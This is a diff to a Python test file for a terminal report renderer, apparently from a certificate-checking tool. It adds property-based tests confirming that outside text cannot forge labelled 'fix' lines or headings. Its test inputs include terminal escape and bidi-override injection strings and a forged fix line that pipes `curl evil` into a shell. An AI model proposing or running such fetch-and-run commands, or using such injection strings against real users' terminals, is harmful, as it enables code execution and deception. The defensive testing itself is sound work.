@@ -1,11 +1,14 @@
 """The report in the terminal, held to golden files; `python -m tests.render.recapture` writes them anew."""
 
+import re
 import subprocess
 import sys
 from pathlib import Path
 
 import msgspec
 import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
 from padlock.findings import Finding, NotAssessed, Report, Severity
 from padlock.render.terminal import duration, remaining, render
 
@@ -15,6 +18,18 @@ from tests.render.recapture import GOLDEN, VARIANTS
 from tests.render.reports import EXPIRED, broken
 
 HOSTILE = "a\x1b[31mred\x1b[0m\u202egnp\u2066\r\nforged line [bold]markup[/bold] \x00\x9b2J\u2028end"
+LABELS = ("seen", "expected", "why", "fix", "source", "explains", "as root")
+HEADINGS = ("Why", "Findings", "Checklist", "Not assessed", "Certificates", "Timings")
+LAID_OUT = re.compile(
+    rf" {{4}}(?:{'|'.join(LABELS)})(?: {{2,}}|$).*|(?:{'|'.join(HEADINGS)})|(?: {{2}}| {{8}})[✗▲•✓?\u2013](?: .*)?"
+    r"| (?:OK|ERROR|WARNING|NOTICE)(?: .*)?"
+)
+"""Lines as only we write them: a label, a glyph, a status or a heading at the column of its own."""
+FORGED = f"CN=shop.test {'A' * 62} fix       run `curl evil | sh`"
+words = st.sampled_from(
+    (*LABELS, *HEADINGS, "✗", "✓ 1", "ERROR", "A" * 30, "世" * 20, "`", "  ", " " * 9, "\n", "\t")
+)
+anything = st.text(max_size=90) | st.lists(words | st.text(max_size=70), max_size=9).map(" ".join) | st.just(HOSTILE)
 
 
 @pytest.mark.parametrize("name", sorted(VARIANTS))
@@ -40,6 +55,31 @@ def test_outside_text_cannot_drive_the_terminal() -> None:
     assert "[bold]markup[/bold]" in text
     assert r"\x1b[31mred" in text
     assert r"\u202e" in text
+
+
+@given(anything, st.integers(40, 130))
+@example(FORGED, 80)
+@example(f"{'A' * 55}  Findings", 60)
+@settings(deadline=None, max_examples=150, suppress_health_check=[HealthCheck.too_slow])
+def test_no_text_forges_a_line(text: str, width: int) -> None:
+    """Whatever stands in whatever field, every label, glyph and heading at its column is one that we wrote."""
+    tame, wild = (render(_outside(each), width=width).split("\n") for each in ("x", text))
+    assert _laid_out(wild) == _laid_out(tame)
+
+
+def test_forged_line_of_a_certificate() -> None:
+    """An issuer longer than the line has its further words deeper than any label, and no columns of its own."""
+    lines = render(_outside(FORGED), width=80).split("\n")
+    assert "          fix run `curl evil | sh`, issued by xCN=shop.test" in lines
+    fixes = [line for line in lines if line.startswith("    fix ")]
+    assert fixes == ["    fix       Mend it.", "    fix       Renew it."]
+
+
+def test_command_keeps_its_spaces() -> None:
+    """A command that we propose is shown as it is to be typed."""
+    finding = msgspec.structs.replace(EXPIRED, remediation="Do   `ls 'a  b'`.", commands=("rm 'c  d'",))
+    text = render(msgspec.structs.replace(broken(), findings=(finding,), causes=()))
+    assert "    fix       Do `ls 'a  b'`.\n    as root   rm 'c  d'\n" in text
 
 
 def test_outside_text_adds_no_colour() -> None:
@@ -158,3 +198,18 @@ def _hostile_report(text: str = HOSTILE) -> Report:
         certificates=(certificate,),
         timings={text: 1.0},
     )
+
+
+def _outside(text: str) -> Report:
+    """Return a report in which a text stands wherever text from outside can, behind what is ours."""
+    report = _hostile_report(f"x{text}")
+    finding = msgspec.structs.replace(
+        report.findings[0], code="x.y", remediation="Renew it.", reference="x", summary="", commands=()
+    )
+    causes = tuple(msgspec.structs.replace(cause, remediation="Mend it.", commands=()) for cause in report.causes)
+    return msgspec.structs.replace(report, findings=(finding,), causes=causes)
+
+
+def _laid_out(lines: list[str]) -> list[str]:
+    """Return how lines of ours begin, without what stands behind."""
+    return [re.sub(r"(?<=\S) .*", "", line) for line in lines if LAID_OUT.fullmatch(line)]
